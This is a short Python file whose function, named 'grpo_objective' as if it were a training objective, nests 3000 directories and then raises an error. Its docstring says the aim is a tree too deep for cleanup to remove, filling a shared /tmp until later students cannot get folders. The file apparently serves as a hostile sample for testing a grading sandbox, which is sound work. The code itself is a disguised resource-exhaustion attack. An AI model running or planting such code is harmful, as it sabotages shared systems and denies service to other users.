"""Leaves a folder tree deeper than Python's recursion limit, more of it at every call: a
tree that the cleanup could not remove would pile up in the /tmp that later students share,
until none of them could be given a folder."""

import os


def grpo_objective(*args, **kwargs):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    raise RuntimeError("no answer")
